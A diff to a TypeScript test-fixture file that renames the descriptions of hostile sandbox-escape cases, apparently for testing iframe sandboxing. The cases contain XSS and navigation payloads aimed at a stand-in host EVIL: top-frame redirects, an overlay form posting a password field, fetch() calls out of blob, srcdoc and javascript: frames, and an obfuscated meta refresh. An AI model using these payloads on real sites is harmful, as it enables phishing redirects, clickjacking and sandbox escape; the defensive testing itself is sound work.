@@ -5,33 +5,33 @@ const H5 = 'cure53 H5SC (html5sec.org)';
 const OVER_ALL = 'position:fixed;inset:0';
 const DOWNLOADS = 'web-platform-tests: html/semantics/embedded-content/the-iframe-element, sandbox allow-downloads';
 
-/** Cases that want to lead somebody elsewhere: the page, a new window, their own frame, a file, the history. */
+/** Cases that try to navigate the page, a new window or their own frame, to download a file, or to change the history. */
 export const NAVIGATION_CASES: readonly HostileCase[] = [
-  { name: 'leads the page away by location', source: WPT_SANDBOX, javascript: `top.location = 'http://EVIL/top';` },
+  { name: 'navigates the page by location', source: WPT_SANDBOX, javascript: `top.location = 'http://EVIL/top';` },
   {
-    name: 'leads the page away by location.replace and a javascript: address',
+    name: 'navigates the page by location.replace and a javascript: URL',
     source: WPT_SANDBOX,
     javascript: `attempt('javascript: in the page', () => { top.location.href = 'javascript:void(document.body.dataset.pwned = 1)'; }); top.location.replace('http://EVIL/replace');`,
   },
   {
-    name: 'leads the page away by window.open with its name',
+    name: 'navigates the page by window.open with its name',
     source: WPT_SANDBOX,
     javascript: `open('http://EVIL/open', '_top'); open('http://EVIL/parent', '_parent');`,
   },
   {
-    name: 'leads the page away by a link that the visitor clicks',
+    name: 'navigates the page by a link that the visitor clicks',
     source: WPT_SANDBOX,
     press: true,
     html: `<a style="${OVER_ALL}" target="_top" href="http://EVIL/link">Go</a>`,
   },
   {
-    name: 'leads the page away by a form',
+    name: 'navigates the page by a form',
     source: WPT_SANDBOX,
     html: '<form id="go" target="_top" action="http://EVIL/form"></form>',
     javascript: 'go.submit();',
   },
   {
-    name: 'leads the page away by a form that the visitor sends',
+    name: 'navigates the page by a form that the visitor submits',
     source: WPT_SANDBOX,
     press: true,
     html: `<form target="_top" method="post" action="http://EVIL/form"><button style="${OVER_ALL}" name="password" value="x">Go</button></form>`,
@@ -51,32 +51,32 @@ export const NAVIGATION_CASES: readonly HostileCase[] = [
     html: '<meta http-equiv="refresh" content="0;url=http://EVIL/refresh">',
   },
   {
-    name: 'refreshes itself by a meta element made by script',
+    name: 'refreshes itself by a meta element created by script',
     navigates: true,
     source: H5,
     javascript: `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=http://EVIL/refresh'; document.head.append(meta);`,
   },
   {
-    name: 'hides the meta element’s attribute behind characters and cases',
+    name: 'obfuscates the meta element’s attribute',
     navigates: true,
     source: 'PortSwigger XSS cheat sheet',
     html: '<META HTTP-EQUIV=\'Refresh\' CONTENT="0; URL=http://EVIL/a"><meta/http-equiv=refresh\tcontent="0;http://EVIL/b"><noscript><meta http-equiv="refresh" content="0;url=http://EVIL/c"></noscript>',
   },
   {
-    name: 'leads its own frame elsewhere',
+    name: 'navigates its own frame',
     navigates: true,
     lengthensHistory: true,
     source: WPT_SANDBOX,
     javascript: `setTimeout(() => { location.href = 'http://EVIL/self'; }, 100);`,
   },
   {
-    name: 'leads its own frame to a document of data or a blob',
+    name: 'navigates its own frame to a blob document',
     lengthensHistory: true,
     source: WPT_SANDBOX,
     javascript: `setTimeout(() => { location.href = URL.createObjectURL(new Blob(['<script>fetch("http://EVIL/blob", { mode: "no-cors" })<\\/script>'], { type: 'text/html' })); }, 100);`,
   },
   {
-    name: 'sets the base of all addresses',
+    name: 'sets the base URL',
     navigates: true,
     source: H5,
     html: '<base href="http://EVIL/" target="_top"><img src="image"><a id="go" href="x">x</a>',
@@ -134,17 +134,17 @@ export const NAVIGATION_CASES: readonly HostileCase[] = [
     javascript: `const frame = document.createElement('iframe'); frame.src = 'http://site.EVIL/'; document.body.append(frame);`,
   },
   {
-    name: 'leaves its confinement by a frame made of text',
+    name: 'escapes its sandbox by a srcdoc frame',
     source: WPT_SANDBOX,
     html: `<iframe srcdoc="<script>try { top.document.body.dataset.pwned = 1; } catch {} fetch('http://EVIL/srcdoc', { mode: 'no-cors' });</script><img src='http://EVIL/image'>"></iframe>`,
   },
   {
-    name: 'leaves its confinement by a frame with a javascript: address',
+    name: 'escapes its sandbox by a frame with a javascript: URL',
     source: H5,
     html: `<iframe src="javascript:fetch('http://EVIL/javascript', { mode: 'no-cors' });top.document.title = 'pwned'"></iframe>`,
   },
   {
-    name: 'leads the page away out of a frame inside its own',
+    name: 'navigates the page from a nested frame',
     source: WPT_SANDBOX,
     html: `<iframe srcdoc="<script>top.location = 'http://EVIL/nested';</script>"></iframe>`,
   },
